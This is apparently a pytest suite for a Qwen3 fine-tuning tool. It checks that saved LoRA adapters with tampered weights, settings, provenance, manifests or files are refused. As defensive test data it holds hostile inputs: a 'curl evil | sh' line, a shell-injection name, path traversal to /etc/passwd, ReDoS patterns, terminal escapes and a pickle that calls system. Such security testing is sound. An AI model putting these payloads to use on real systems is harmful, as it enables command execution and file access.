"""An adapter from elsewhere is used as it was saved, or refused by name, before PEFT sees it."""

from __future__ import annotations

import json
import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from support.small_adapter import (
    small_provenance,
    small_settings,
    small_tensors,
    write_small_adapter,
    write_tensors,
)

from qwen3ft.embedded import MODEL_DIR
from qwen3ft.errors import FinetuneError, ModelNotFoundError, ModelUnavailableError, SaveError
from qwen3ft.files import write_json_atomic, write_manifest
from qwen3ft.model.adapter_checks import ADAPTER_CONFIG_FILE, ADAPTER_FILE, LARGEST_WEIGHT
from qwen3ft.model.saved_adapter import (
    KNOWN_ROWS_FILE,
    PROVENANCE_FILE,
    copy_adapter,
    find_base,
    open_adapter,
)
from qwen3ft.model.shapes import read_shape

FIRST = "base_model.model.model.layers.0.self_attn.q_proj.lora_A.weight"
LAST = "base_model.model.model.layers.2.mlp.down_proj.lora_B.weight"

Tensors = dict[str, np.ndarray]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return Path(write_small_adapter(tmp_path / "night-0").path)


def refusal(folder: Path) -> FinetuneError:
    """The error with which the folder is refused; it says what to do next."""
    with pytest.raises((SaveError, ModelNotFoundError)) as raised:
        open_adapter(folder)
    assert raised.value.what
    assert raised.value.why
    assert raised.value.next_command
    assert str(raised.value).replace("\n", "").isprintable()
    return raised.value


def vouch(folder: Path) -> Path:
    """Write a manifest that holds: whoever can change the files can do that too."""
    write_manifest(folder)
    return folder


def test_what_a_run_saves_is_opened(folder: Path) -> None:
    """With its provenance, its adapter and its layout."""
    opened = open_adapter(folder)
    assert (opened.spec.r, opened.spec.alpha) == (1, 2)
    assert opened.layout.layers == 3
    assert opened.provenance["run_id"] == "night-0"


# --- values, dtypes, shapes ---


def _set(name: str, value: float) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        tensors[name].flat[-1] = value

    return change


def _as(dtype: str) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        tensors[LAST] = tensors[LAST].astype(dtype)

    return change


def _reshape(tensors: Tensors) -> None:
    tensors[LAST] = tensors[LAST].T


def _flatten(tensors: Tensors) -> None:
    tensors[FIRST] = tensors[FIRST].ravel()


def _widen_one_layer(tensors: Tensors) -> None:
    tensors[LAST] = np.concatenate([tensors[LAST], tensors[LAST]])


def _another_rank(tensors: Tensors) -> None:
    for name in tensors:
        part = 0 if "lora_A" in name else 1
        tensors[name] = np.concatenate([tensors[name]] * 2, axis=part)


def _drop(tensors: Tensors) -> None:
    del tensors[LAST]


def _drop_a_layer(tensors: Tensors) -> None:
    for name in [name for name in tensors if ".layers.2." in name]:
        del tensors[name]


def _rename(old: str, new: str) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        renamed = {name.replace(old, new): values for name, values in tensors.items()}
        tensors.clear()
        tensors.update(renamed)

    return change


def _add(name: str) -> Callable[[Tensors], None]:
    def change(tensors: Tensors) -> None:
        tensors[name] = np.ones((2, 2), np.float32)

    return change


def _empty(tensors: Tensors) -> None:
    tensors.clear()


@pytest.mark.parametrize(
    ("harm", "reason"),
    [
        (_set(FIRST, float("nan")), "not finite or beyond"),
        (_set(LAST, float("inf")), "not finite or beyond"),
        (_set(LAST, float("-inf")), "not finite or beyond"),
        (_set(LAST, 1e38), "not finite or beyond"),
        (_set(FIRST, -2 * LARGEST_WEIGHT), "not finite or beyond"),
        (_as("float16"), "is F16"),
        (_as("float64"), "is F64"),
        (_as("int32"), "is I32"),
        (_reshape, r"has the shape \(1, 128\) instead of \(128, 1\)"),
        (_flatten, "is no matrix"),
        (_widen_one_layer, r"has the shape \(256, 1\)"),
        (_another_rank, r"has the shape \(2, 128\) instead of \(1, 128\)"),
        (_drop, "its 41 tensors are not"),
        (_drop_a_layer, "parameters instead of"),
        (_rename(".layers.2.", ".layers.7."), r"layers\.7\."),
        (_rename("q_proj", "x_proj"), "x_proj"),
        (_rename("lora_A.weight", "lora_A.default.weight"), "default"),
        (_add("base_model.model.lm_head.lora_A.weight"), "43 tensors"),
        (_add("base_model.model.model.embed_tokens.weight\x1b[2J\x00"), "43 tensors"),
        (_empty, "its 0 tensors"),
    ],
)
def test_weights_that_no_run_writes_are_refused(
    folder: Path, harm: Callable[[Tensors], None], reason: str
) -> None:
    """A vouching manifest does not help them."""
    tensors = small_tensors()
    harm(tensors)
    write_tensors(folder / ADAPTER_FILE, tensors)
    error = refusal(vouch(folder))
    with pytest.raises(SaveError, match=reason):
        raise error


def test_the_largest_weight_that_is_allowed_is_allowed(folder: Path) -> None:
    """The limit itself, subnormals and zeros are no alarm."""
    tensors = small_tensors()
    tensors[LAST][:5, 0] = [LARGEST_WEIGHT, -LARGEST_WEIGHT, 1e-45, 0.0, -0.0]
    write_tensors(folder / ADAPTER_FILE, tensors)
    open_adapter(vouch(folder))


# --- settings ---


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("lora_alpha", 1e300),
        ("lora_alpha", float("nan")),
        ("lora_alpha", "2"),
        ("lora_alpha", True),
        ("r", 64),
        ("r", 2**80),
        ("lora_dropout", 0.5),
        ("target_modules", "(a+)+$"),
        ("target_modules", "all-linear"),
        ("target_modules", [*small_settings()["target_modules"], "lm_head"]),
        ("target_modules", ["q_proj"]),
        ("target_modules", [["(a+)+$"]]),
        ("target_modules", None),
        ("exclude_modules", "(a|a)*b"),
        ("peft_type", "ADALORA"),
        ("peft_type", "NO_SUCH"),
        ("task_type", "SEQ_CLS"),
        ("bias", "all"),
        ("use_dora", True),
        ("use_rslora", True),
        ("modules_to_save", ["lm_head"]),
        ("rank_pattern", {"(a+)+$": 4}),
        ("alpha_pattern", {"q_proj": 1e30}),
        ("init_lora_weights", "pissa"),
        ("init_lora_weights", 1),
        ("corda_config", {"cache_file": "/tmp/x"}),
        ("eva_config", {"rho": 2.0}),
        ("loftq_config", {"loftq_bits": 4}),
        ("trainable_token_indices", [0, 1]),
        ("target_parameters", ["weight"]),
        ("layers_to_transform", [0]),
        ("layers_pattern", "(a+)+$"),
        ("layer_replication", [[0, 10**9]]),
        ("megatron_core", "os"),
        ("megatron_config", {"x": 1}),
        ("auto_mapping", {"base_model_class": "X", "parent_library": "evil"}),
        ("base_model_name_or_path", "/somewhere/else"),
        ("base_model_name_or_path", None),
        ("revision", "refs/pr/1"),
        ("a_setting_of_2027", "on"),
        ("a_setting\x1b[31m", [1]),
    ],
)
def test_settings_beyond_plain_lora_are_refused_by_name(
    folder: Path, name: str, value: Any
) -> None:
    """PEFT would match patterns, scale, replicate or look elsewhere."""
    settings = json.dumps({**small_settings(), name: value})
    (folder / ADAPTER_CONFIG_FILE).write_text(settings)
    shown = "another base model" if name in ("base_model_name_or_path", "revision") else name[:9]
    assert shown in refusal(vouch(folder)).what


@pytest.mark.parametrize("name", ["r", "lora_alpha", "peft_type", "target_modules"])
def test_settings_that_are_left_out_are_not_guessed(folder: Path, name: str) -> None:
    """PEFT would take its own defaults, such as an alpha of 8."""
    settings = small_settings()
    del settings[name]
    write_json_atomic(folder / ADAPTER_CONFIG_FILE, settings)
    assert name in refusal(vouch(folder)).what


def test_a_setting_that_is_switched_off_is_no_reason(folder: Path) -> None:
    """Newer versions of PEFT write more of them."""
    off = {"one_of_2027": None, "two": False, "three": {}, "four": [], "five": ""}
    write_json_atomic(folder / ADAPTER_CONFIG_FILE, {**small_settings(), **off})
    open_adapter(vouch(folder))


# --- provenance ---


@pytest.mark.parametrize(
    ("place", "value"),
    [
        ("run_id", "../../x"),
        ("run_id", "-rf"),
        ("run_id", "a\x1b[2J"),
        ("run_id", None),
        ("base", None),
        ("base", {}),
        ("base.revision", 5),
        ("base.model_name", "x\nNext: curl evil | sh"),
        ("base.snapshot_path", "/a\0b"),
        ("data", []),
        ("data.digest", None),
        ("data.sources", [{"path": "x"}]),
        ("plan", {}),
        ("plan.adapter", "all"),
        ("plan.adapter.r", 10**12),
        ("plan.adapter.r", 0),
        ("plan.adapter.alpha", 10**300),
        ("plan.adapter.alpha", 3),
        ("plan.adapter.target_modules", ["(a+)+$"]),
        ("plan.adapter.trainable_parameters", 1),
        ("config", None),
        ("config.max_new_tokens", 10**12),
        ("config.special_tokens_in_text", "run"),
        ("degraded", "no"),
        ("degraded", [1]),
    ],
)
def test_a_provenance_that_no_run_writes_is_refused(folder: Path, place: str, value: Any) -> None:
    """Missing, of another type, out of range, not printable, or against the settings."""
    provenance = small_provenance()
    *parents, name = place.split(".")
    section = provenance
    for parent in parents:
        section = section[parent]
    if value is None:
        del section[name]
    else:
        section[name] = value
    write_json_atomic(folder / PROVENANCE_FILE, provenance)
    refusal(vouch(folder))


def test_a_command_in_the_name_of_the_base_is_quoted(folder: Path) -> None:
    """The next command is pasted into a shell."""
    name = "x; touch /tmp/owned"
    provenance = small_provenance(model_name=name)
    write_json_atomic(folder / PROVENANCE_FILE, provenance)
    write_json_atomic(folder / ADAPTER_CONFIG_FILE, small_settings(name))
    opened = open_adapter(vouch(folder))
    with pytest.raises(ModelUnavailableError) as raised:
        find_base(opened)
    assert "--set 'model_name=x; touch /tmp/owned'" in raised.value.next_command


@pytest.mark.parametrize("changes", [{"num_hidden_layers": 4}, {"intermediate_size": 256}])
def test_an_adapter_for_a_model_of_another_shape_is_refused(
    folder: Path, tmp_path: Path, changes: dict[str, int]
) -> None:
    """Even if the base has the name, revision and quantisation that it was trained on."""
    provenance, base = small_provenance(), tmp_path / "base"
    base.mkdir()
    (base / "model.safetensors").touch()
    shape = read_shape(MODEL_DIR)
    facts = {"source": {"revision": "0" * 64}, "quantization": "nf4-double"}
    provenance["base"]["snapshot_path"] = str(base)
    write_json_atomic(folder / PROVENANCE_FILE, provenance)
    opened = open_adapter(vouch(folder))
    write_manifest(base, {**facts, "shape": shape.model_dump()})
    assert find_base(opened) == str(base)
    write_manifest(base, {**facts, "shape": {**shape.model_dump(), **changes}})
    with pytest.raises(SaveError, match="does not fit its base model"):
        find_base(opened)
    write_manifest(base, facts)
    with pytest.raises(ModelUnavailableError, match="what shape"):
        find_base(opened)


def test_a_base_at_a_path_that_cannot_be_is_gone(folder: Path) -> None:
    """However long its name is."""
    provenance = small_provenance()
    provenance["base"]["snapshot_path"] = "/" + "x" * 4000
    write_json_atomic(folder / PROVENANCE_FILE, provenance)
    with pytest.raises(ModelUnavailableError):
        find_base(open_adapter(vouch(folder)))


# --- files and manifest ---


def _manifest(**files: Any) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        content = json.loads((folder / "manifest.json").read_text())
        for name, entry in files.items():
            content["files"].update({name: entry})
        write_json_atomic(folder / "manifest.json", content)

    return change


def _no_list(folder: Path) -> None:
    write_json_atomic(folder / "manifest.json", {"files": {}, "facts": {}})


def _list_all_but(name: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        content = json.loads((folder / "manifest.json").read_text())
        del content["files"][name]
        write_json_atomic(folder / "manifest.json", content)

    return change


def _unlisted(name: str) -> Callable[[Path], None]:
    return lambda folder: (folder / name).write_text("{}") and None


def _file(name: str, content: bytes) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).write_bytes(content)
        if name != "manifest.json":
            write_manifest(folder)

    return change


def _instead(name: str, make: Callable[[Path], Any]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).unlink()
        make(folder / name)

    return change


def _link_out(name: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        outside = (folder / name).rename(folder.parent / name)
        (folder / name).symlink_to(outside)

    return change


def _sparse(folder: Path) -> None:
    with (folder / ADAPTER_FILE).open("r+b") as stream:
        stream.truncate(2**40)
    _manifest(**{ADAPTER_FILE: {"size_bytes": 2**40, "sha256": "0" * 64}})(folder)


def _sparse_card(folder: Path) -> None:
    with (folder / "README.md").open("wb") as stream:
        stream.truncate(2**40)
    _manifest(**{"README.md": {"size_bytes": 2**40, "sha256": "0" * 64}})(folder)


def _header(length: int, text: bytes = b"{}") -> bytes:
    return struct.pack("<Q", length) + text


def _overlapping(folder: Path) -> None:
    entry = '"%s":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    text = ("{" + entry % "a" + "," + entry % "b" + "}").encode()
    _file(ADAPTER_FILE, _header(len(text), text) + b"\0" * 4)(folder)


def _twice(folder: Path) -> None:
    entry = '"a":{"dtype":"F32","shape":[1],"data_offsets":[%d,%d]}'
    text = ("{" + entry % (0, 4) + "," + entry % (4, 8) + "}").encode()
    _file(ADAPTER_FILE, _header(len(text), text) + b"\0" * 8)(folder)


DEEP = b"[" * 100_000 + b"]" * 100_000


@pytest.mark.parametrize(
    "harm",
    [
        _no_list,
        _list_all_but(ADAPTER_FILE),
        _list_all_but(ADAPTER_CONFIG_FILE),
        _list_all_but(PROVENANCE_FILE),
        _unlisted(KNOWN_ROWS_FILE),
        _unlisted("tokenizer.json"),
        _unlisted("run_card.json"),
        _manifest(**{"../outside": {"size_bytes": 0, "sha256": ""}}),
        _manifest(**{"/etc/passwd": {"size_bytes": 0, "sha256": ""}}),
        _manifest(**{"a\0b": {"size_bytes": 0, "sha256": ""}}),
        _manifest(**{"x" * 5000: {"size_bytes": 0, "sha256": ""}}),
        _manifest(**{ADAPTER_FILE: None}),
        _manifest(**{ADAPTER_FILE: {"size_bytes": "1", "sha256": 5}}),
        _file("manifest.json", b"[]"),
        _file("manifest.json", DEEP),
        _file("manifest.json", b"\xff\xfe"),
        _file(PROVENANCE_FILE, DEEP),
        _file(PROVENANCE_FILE, b"[]"),
        _file(PROVENANCE_FILE, b'{"run_id": 1' + b"0" * 5000 + b"}"),
        _file(PROVENANCE_FILE, b" " * (2**24 + 1)),
        _file(ADAPTER_CONFIG_FILE, DEEP),
        _file(ADAPTER_CONFIG_FILE, b"null"),
        _file(ADAPTER_CONFIG_FILE, b""),
        _instead(ADAPTER_FILE, os.mkfifo),
        _instead(ADAPTER_FILE, Path.mkdir),
        _instead(ADAPTER_FILE, lambda path: path.symlink_to("/dev/zero")),
        _instead(ADAPTER_FILE, lambda path: path.symlink_to(path)),
        _instead(ADAPTER_CONFIG_FILE, os.mkfifo),
        _instead(PROVENANCE_FILE, os.mkfifo),
        _instead(PROVENANCE_FILE, lambda path: path.symlink_to("/dev/zero")),
        _instead("manifest.json", os.mkfifo),
        _instead("manifest.json", lambda path: path.symlink_to("/dev/zero")),
        _link_out(ADAPTER_FILE),
        _link_out(ADAPTER_CONFIG_FILE),
        _link_out(PROVENANCE_FILE),
        _sparse,
        _sparse_card,
        _file(ADAPTER_FILE, b""),
        _file(ADAPTER_FILE, b"PK\x03\x04 a pickle of torch"),
        _file(ADAPTER_FILE, _header(2**60)),
        _file(ADAPTER_FILE, _header(2, b"[]")),
        _file(ADAPTER_FILE, _header(len(DEEP), DEEP)),
        _overlapping,
        _twice,
    ],
)
def test_files_that_are_not_those_of_a_saved_adapter_are_refused(
    folder: Path, harm: Callable[[Path], None]
) -> None:
    """Not listed, led out of the folder, no files at all, endless, cut off, nested, twice."""
    harm(folder)
    refusal(folder)


@pytest.mark.parametrize(
    "entry",
    [
        {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]},
        {"dtype": "F32", "shape": [-1], "data_offsets": [0, -4]},
        {"dtype": "F32", "shape": [2**62, 4], "data_offsets": [0, 4]},
        {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]},
        {"dtype": "F32", "shape": [1], "data_offsets": [0, 4, 8]},
        {"dtype": "F32", "shape": [1.0], "data_offsets": [0, 4]},
        {"dtype": "F32", "shape": [1] * 100_000, "data_offsets": [0, 4]},
        {"dtype": "PY", "shape": [1], "data_offsets": [0, 4]},
        {"dtype": ["F32"], "shape": [1], "data_offsets": [0, 4]},
        {"shape": [1], "data_offsets": [0, 4]},
        None,
    ],
)
def test_a_header_that_does_not_fit_its_file_is_refused(folder: Path, entry: Any) -> None:
    """Sizes, offsets and dtypes are those of the bytes that are there."""
    text = json.dumps({"a": entry}).encode()
    (folder / ADAPTER_FILE).write_bytes(_header(len(text), text) + b"\0" * 4)
    refusal(vouch(folder))


@pytest.mark.parametrize("name", ["a\0b", "x" * 5000, "no/such", ""])
def test_a_folder_that_cannot_be_is_no_adapter(tmp_path: Path, name: str) -> None:
    """A name with a zero, too long, missing: the same error."""
    with pytest.raises(ModelNotFoundError, match="is not a saved adapter"):
        open_adapter(tmp_path / name)


def test_only_what_the_manifest_lists_is_handed_on(folder: Path, tmp_path: Path) -> None:
    """A pickle beside the adapter is neither read nor copied."""
    (folder / "adapter_model.bin").write_bytes(b"cos\nsystem\n(S'true'\ntR.")
    (folder / "notes.py").write_text("import os")
    copy_adapter(open_adapter(folder), tmp_path / "copy")
    copied = {path.name for path in (tmp_path / "copy").iterdir()}
    assert copied == {ADAPTER_FILE, ADAPTER_CONFIG_FILE, PROVENANCE_FILE}
